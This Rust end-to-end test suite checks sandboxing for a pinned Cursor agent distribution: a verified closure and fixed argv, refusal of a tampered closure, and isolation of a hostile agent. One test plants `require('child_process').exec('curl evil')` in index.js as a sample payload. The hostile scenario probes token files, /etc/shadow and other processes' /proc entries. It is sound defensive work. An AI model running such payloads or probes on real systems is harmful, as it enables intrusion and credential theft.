//! A pinned Cursor distribution: the agent is launched only from its verified closure,
//! with the fixed argv, and a closure changed after verification is refused. Agents run
//! under their own uids, each with a `/proc` of its own: a hostile one reads no secret,
//! sees neither the service (nor its command line) nor any other process of the host,
//! and cannot alter its closure.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use cursor_runner_e2e::*;
use cursor_runner_supervisor::distribution::synthetic::ArchiveBuilder;
use cursor_runner_supervisor::distribution::{self, Platform, VerifyMode};
use cursor_runner_supervisor::{AgentCommand, PinnedDistribution};
use serde_json::Value;
use tonic::Code;

on_both_backends!(
    a_pinned_distribution_runs_a_turn_from_its_verified_closure,
    a_closure_changed_after_verification_is_refused_before_launch,
    a_hostile_agent_reads_no_secret_sees_neither_the_service_nor_the_host_and_cannot_alter_its_closure,
);

/// The pids an agent's own `/proc` lists: its init (PID 1 of its namespace) and itself.
const AGENT_OWN_PIDS: [u64; 2] = [1, 2];

/// A synthetic distribution whose `node` is a launcher for the fake agent, pinned and
/// materialized into `dir/closure`.
fn pinned_fake(dir: &Path, scenario_name: &str, record: &Path) -> PinnedDistribution {
    // The agent (its own uid) passes through `dir` to its closure and appends to `record`.
    if agent_users::agent_users().is_some() {
        agent_users::traversable(dir);
        agent_users::appendable_by_agents(record);
    }
    let node = format!(
        "#!/bin/sh\nexec {} --scenario {} --record {} \"$@\"\n",
        fake_agent().display(),
        scenario(scenario_name).display(),
        record.display()
    );
    let archive = dir.join("cursor.tar.gz");
    ArchiveBuilder::minimal(node.as_bytes()).write_tar_gz(&archive).unwrap();
    let manifest = distribution::pin(&archive, "2026.09.26-test", Platform::LinuxX64).unwrap();
    let pin = manifest.platform(Platform::LinuxX64).unwrap().clone();
    let closure = dir.join("closure");
    distribution::materialize(&archive, &closure, &pin, |_| {}).unwrap();
    PinnedDistribution {
        closure_dir: closure,
        pin,
        verify_mode: VerifyMode::Quick,
    }
}

async fn service_with(backend: Backend, pinned: PinnedDistribution) -> TestService {
    let options = Options {
        agent_command: Some(AgentCommand::pinned(pinned)),
        ..Options::default()
    };
    TestService::start_with(backend, "env_report.json", options).await
}

async fn a_pinned_distribution_runs_a_turn_from_its_verified_closure(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    let record: PathBuf = dir.path().join("record.ndjson");
    let pinned = pinned_fake(dir.path(), "env_report.json", &record);
    let closure = pinned.closure_dir.clone();
    let digest = format!("sha256:{}", pinned.pin.closure_sha256);
    let service = service_with(backend, pinned).await;
    let mut client = service.client().await;
    let (_, _, mut events) = begin_turn(&mut client, &service).await;
    let all = events.until_turn_settles().await;
    assert_eq!(all.last().unwrap().event_type, "turn.completed");
    let spawned = payload(all.iter().find(|e| e.event_type == "process.spawned").unwrap());
    assert_eq!(
        spawned["distribution"],
        digest.as_str(),
        "the event names the pinned closure"
    );
    assert_eq!(spawned["program"], closure.join("node").display().to_string());
    assert!(
        service
            .metrics()
            .contains("cursor_runner_process_starts_total{distribution=\"pinned\"} 1"),
        "metrics say pinned, never the digest"
    );
    let report: Value =
        serde_json::from_str(&std::fs::read_to_string(service.workspace.join("env.json")).unwrap()).unwrap();
    let argv: Vec<String> = serde_json::from_value(report["argv"].clone()).unwrap();
    // The closure's `node` is a launcher script: it execs the fake agent with its own
    // options, then exactly the arguments the runner gave `node`.
    let given = argv.iter().position(|a| a.ends_with("/index.js")).expect("index.js");
    assert_eq!(
        argv[given..],
        [
            closure.join("index.js").display().to_string(),
            "--disable-project-configs".into(),
            "--disable-auto-update".into(),
            "acp".into(),
        ],
        "exactly the fixed argv, nothing before index.js from the runner, never --force, --trust or --approve-mcps"
    );
    assert_eq!(
        argv[..given],
        [
            fake_agent().display().to_string(),
            "--scenario".into(),
            scenario("env_report.json").display().to_string(),
            "--record".into(),
            record.display().to_string(),
        ],
        "nothing injected before it either"
    );
    service.shutdown().await;
}

async fn a_closure_changed_after_verification_is_refused_before_launch(backend: Backend) {
    let dir = tempfile::tempdir().unwrap();
    let record = dir.path().join("record.ndjson");
    let pinned = pinned_fake(dir.path(), "env_report.json", &record);
    let index = pinned.closure_dir.join("index.js");
    std::fs::set_permissions(&index, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::write(&index, "require('child_process').exec('curl evil');\n").unwrap();
    let service = service_with(backend, pinned).await;
    let mut client = service.client().await;
    let result = client
        .create_execution(proto::CreateExecutionRequest {
            request_id: "create-1".into(),
            workspace: service.workspace.display().to_string(),
            ..Default::default()
        })
        .await;
    assert_refused(result, Code::FailedPrecondition, "DISTRIBUTION_UNVERIFIED");
    assert!(
        std::fs::read_to_string(&record).unwrap_or_default().is_empty(),
        "nothing was launched"
    );
    service.shutdown().await;
}

async fn a_hostile_agent_reads_no_secret_sees_neither_the_service_nor_the_host_and_cannot_alter_its_closure(
    backend: Backend,
) {
    assert!(
        nix::unistd::geteuid().is_root(),
        "agents run under their own uids only when the service is root: run the suite as root (CI does)"
    );
    let dir = tempfile::tempdir().unwrap();
    let record = dir.path().join("record.ndjson");
    let pinned = pinned_fake(dir.path(), "hostile.json", &record);
    let closure = pinned.closure_dir.clone();
    let service = service_with(backend, pinned).await;
    // The service runs in this process: its command line is what the agent must not read.
    let service_pid = std::process::id();
    // Two workspaces, each holding a stand-in for the service's own secrets: root's, 0600,
    // and the service's pid, for the agent to look up in its `/proc`.
    let workspaces: Vec<PathBuf> = (0..2)
        .map(|n| {
            let workspace = service.workspace.join(format!("ws-{n}"));
            std::fs::create_dir_all(workspace.join("secret")).unwrap();
            agent_users::shared_with_agents(&workspace);
            std::fs::set_permissions(workspace.join("secret"), std::fs::Permissions::from_mode(0o700)).unwrap();
            let tokens = workspace.join("secret/tokens.json");
            std::fs::write(&tokens, r#"{"tokens": []}"#).unwrap();
            std::fs::set_permissions(&tokens, std::fs::Permissions::from_mode(0o600)).unwrap();
            std::fs::write(workspace.join("service.pid"), service_pid.to_string()).unwrap();
            workspace
        })
        .collect();
    let mut client = service.client().await;
    let mut executions = Vec::new();
    for (n, workspace) in workspaces.iter().enumerate() {
        let execution = client
            .create_execution(proto::CreateExecutionRequest {
                request_id: format!("create-{n}"),
                workspace: workspace.display().to_string(),
                ..Default::default()
            })
            .await
            .unwrap()
            .into_inner()
            .execution
            .unwrap();
        executions.push(execution);
    }
    let mut streams = Vec::new();
    for (n, execution) in executions.iter().enumerate() {
        streams.push(Subscriber::open(&mut client, &execution.execution_id, 0).await.unwrap());
        start_turn(&mut client, &execution.execution_id, &format!("turn-{n}"))
            .await
            .unwrap();
    }
    for stream in &mut streams {
        assert_eq!(
            stream.until_turn_settles().await.last().unwrap().event_type,
            "turn.completed"
        );
    }
    let reports: Vec<Value> = workspaces
        .iter()
        .map(|w| serde_json::from_str(&std::fs::read_to_string(w.join("access.json")).unwrap()).unwrap())
        .collect();
    let uids: Vec<u64> = reports.iter().map(|r| r["uid"].as_u64().unwrap()).collect();
    assert!(uids.iter().all(|uid| *uid != 0), "no agent runs as root: {uids:?}");
    assert_ne!(uids[0], uids[1], "each agent has a uid of its own");
    for report in &reports {
        let denied = |value: &Value| value.as_str().is_some_and(|v| v.starts_with("denied"));
        assert!(denied(&report["read"]["secret/tokens.json"]), "{report}");
        assert!(denied(&report["read"]["/etc/shadow"]), "{report}");
        assert!(
            denied(&report["write_into"]["@closure"]),
            "the closure is read-only to it: {report}"
        );
        assert_eq!(
            report["write_into"]["."], "allowed",
            "its workspace is writable: {report}"
        );
        assert_eq!(
            report["cmdline_of"]["pid"],
            service_pid.to_string(),
            "it probed the service: {report}"
        );
        assert_eq!(
            report["cmdline_of"]["result"], "denied: NotFound",
            "the service is not in its /proc at all: {report}"
        );
        let pids: Vec<u64> = serde_json::from_value(report["proc_pids"].clone()).unwrap();
        assert_eq!(
            pids, AGENT_OWN_PIDS,
            "its /proc lists its own tree, nothing of the host"
        );
        assert_eq!(
            report["other_agents_environ"],
            serde_json::json!({}),
            "the other agent, up meanwhile, is not even visible: {report}"
        );
    }
    assert!(
        !closure
            .read_dir()
            .unwrap()
            .any(|e| e.unwrap().file_name().to_string_lossy().starts_with(".probe"))
    );
    service.shutdown().await;
}
